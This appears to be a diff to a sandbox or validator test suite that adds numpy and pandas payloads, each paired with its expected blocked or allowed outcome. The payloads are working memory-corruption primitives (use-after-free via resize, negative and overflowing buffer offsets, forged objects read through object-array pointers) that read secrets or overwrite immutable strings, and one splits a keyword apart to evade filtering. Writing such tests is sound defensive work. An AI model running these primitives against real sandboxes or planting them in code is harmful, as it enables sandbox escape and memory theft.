@@ -1104,6 +1104,184 @@ PAYLOADS = [
         def main():
             return str(type(sys.stdout)(io.BytesIO(b"x")))
         """, on={GUARD, EXCEPTION}, off={OK, EXCEPTION}),
+    # a seventh review (rev4), numpy and pandas memory: ndarray.resize(refcheck=False)
+    # frees the memory under live views; offset= over a buffer is checked in 64
+    # bits (negative or overflowing: any address); an array of objects exports
+    # its pointers to any reader of bytes; Categorical(fastpath=True) and
+    # MultiIndex(verify_integrity=False) take codes pandas' take reads unchecked
+    Payload("numpy-resize-refcheck-false-view", """
+        import numpy as np
+        import struct
+        def main():
+            secret = b"secret-bytes-in-another-object"
+            a = np.zeros(4096, dtype="u1")
+            v = a[:]
+            a.resize(1 << 16, refcheck=False)
+            marker = "m"
+            lst = [marker] * 512
+            q = v.view("<u8")
+            hits = [i for i in range(512) if int(q[i]) == id(marker)]
+            if len(hits) < 400:
+                return "list not over the freed buffer"
+            fake = struct.pack("<QQqqQQQ", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
+            q[0] = id(fake) + 32
+            mem = lst[0]
+            addr = id(secret) + 32
+            out = bytes(mem[addr:addr + len(secret)])
+            q[0] = id(marker)
+            return out.decode()
+        """, on={VALIDATOR}, off={OK, CRASH, EXCEPTION}),
+    Payload("numpy-ndarray-negative-offset", """
+        import numpy as np
+        def main():
+            secret = b"secret-bytes-in-another-object"
+            anchor = bytes(64)
+            d = (id(secret) + 32) - (id(anchor) + 32)
+            if d < 0:       # the secret below the buffer: a negative offset
+                a = np.ndarray((len(secret),), dtype="u1", buffer=anchor, offset=d)
+            else:           # above it: offset + size overflows numpy's 64-bit check
+                a = np.ndarray(((1 << 63) - d,), dtype="u1", buffer=anchor, offset=d)
+            return bytes(a[:len(secret)]).decode()
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("numpy-ndarray-offset-write-str", """
+        import numpy as np
+        def main():
+            victim = "immutable string"
+            buf = np.zeros(64, dtype="u1")
+            for i in range(200):
+                anchor = bytes(64) + bytes([i])
+                d = id(buf) + 16 - (id(anchor) + 32)
+                if d < 0:
+                    break
+            ptr = int(np.ndarray((1,), dtype="<u8", buffer=anchor, offset=d)[0])
+            vaddr = id(victim) + 48
+            w = np.ndarray((16,), dtype="u1", buffer=buf, offset=vaddr - ptr) if vaddr < ptr else \\
+                np.ndarray(((1 << 63) - (vaddr - ptr),), dtype="u1", buffer=buf, offset=vaddr - ptr)
+            w[:7] = np.frombuffer(b"CHANGED", dtype="u1")
+            return victim
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("numpy-ndarray-offset-overflow", """
+        import numpy as np
+        def main():
+            return repr(np.ndarray((4,), dtype="u1", buffer=bytes(8), offset=(1 << 63) - 2))
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("numpy-recarray-negative-offset", """
+        import numpy as np
+        def main():
+            return repr(np.rec.array(bytes(8), dtype=[("a", "u1")], shape=4, offset=-8))
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("numpy-chararray-negative-offset", """
+        import numpy as np
+        def main():
+            return repr(np.char.chararray((4,), itemsize=1, buffer=bytes(8), offset=-8))
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("numpy-frombuffer-of-object-array", """
+        import numpy as np
+        import struct
+        def main():
+            fake = struct.pack("<QQqqQQQ", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
+            secret = b"secret-bytes-in-another-object"
+            o = np.array([None, None], dtype=object)
+            np.frombuffer(o, dtype="u8")[0] = id(fake) + 32
+            mem = o[0]
+            a = id(secret) + 32
+            return bytes(mem[a:a + len(secret)]).decode()
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("numpy-ndarray-buffer-object-array", """
+        import numpy as np
+        def main():
+            o = np.array([None, "x"], dtype=object)
+            q = np.ndarray((2,), dtype="u8", buffer=o)
+            q[0] = q[1] + 8
+            return repr(o[0])
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("struct-pack-into-object-array", """
+        import numpy as np
+        import struct
+        def main():
+            fake = struct.pack("<QQqqQQQ", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
+            secret = b"secret-bytes-in-another-object"
+            o = np.array([None, None], dtype=object)
+            struct.pack_into("<Q", o, 0, id(fake) + 32)
+            mem = o[0]
+            a = id(secret) + 32
+            return bytes(mem[a:a + len(secret)]).decode()
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("bytesio-readinto-object-array", """
+        import io
+        import numpy as np
+        import struct
+        def main():
+            fake = struct.pack("<QQqqQQQ", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
+            secret = b"secret-bytes-in-another-object"
+            o = np.array([None, None], dtype=object)
+            io.BytesIO(struct.pack("<QQ", id(fake) + 32, id(None))).readinto(o)
+            mem = o[0]
+            a = id(secret) + 32
+            return bytes(mem[a:a + len(secret)]).decode()
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("memoryview-cast-object-array", """
+        import numpy as np
+        import struct
+        def main():
+            x = "an object"
+            o = np.array([None, None], dtype=object)
+            m = memoryview(o).cast("B")
+            m[0:8] = struct.pack("<Q", id(x))
+            return repr(o[0])
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("ndarray-data-cast-object-array", """
+        import numpy as np
+        import struct
+        def main():
+            x = "an object"
+            o = np.array([None, None], dtype=object)
+            m = o.data.cast("B")
+            m[0:8] = struct.pack("<Q", id(x))
+            return repr(o[0])
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("memoryview-object-slice-assign-no-incref", """
+        import numpy as np
+        def main():
+            a = np.array(["x" * 5, "y" * 5], dtype=object)
+            b = np.array([None, None], dtype=object)
+            memoryview(b)[:] = memoryview(a)
+            del a
+            return repr(b)
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("categorical-fastpath-codes-oob", """
+        import numpy as np
+        import pandas as pd
+        def main():
+            c = pd.Categorical(np.array([0, 1, 5000000], dtype="i8"),
+                               dtype=pd.CategoricalDtype(["a", "b"]), fastpath=True)
+            return repr(np.asarray(c))
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("multiindex-verify-integrity-false", """
+        import pandas as pd
+        def main():
+            mi = pd.MultiIndex(levels=[["a", "b"]], codes=[[0, 1, 5000000]],
+                               verify_integrity=False)
+            return repr(mi.values)
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("multiindex-set-codes-no-verify", """
+        import pandas as pd
+        def main():
+            mi = pd.MultiIndex.from_arrays([["a", "b"]])
+            mi = mi.set_codes([[0, 1, 5000000]], verify_integrity=False)
+            return repr(list(mi))
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    Payload("numpy-resize-refcheck-false-through-pandas-apply", """
+        import numpy as np
+        import pandas as pd
+        def main():
+            a = np.zeros(4096, dtype="u1")
+            v = a[:]
+            kw = {"refc" + "heck": False}
+            pd.Series([0]).apply(lambda _: a.resize(1 << 16, **kw))
+            pd.Series([a], dtype=object).apply(type(a).resize, args=(1 << 16,), **kw)
+            return int(v.sum())
+        """, on={GUARD, EXCEPTION}, off={OK, CRASH, EXCEPTION}),
     Payload("format-method-in-fullwidth", """
         def main():
             f = "{0.__cl" + "ass__.__ba" + "se__}"
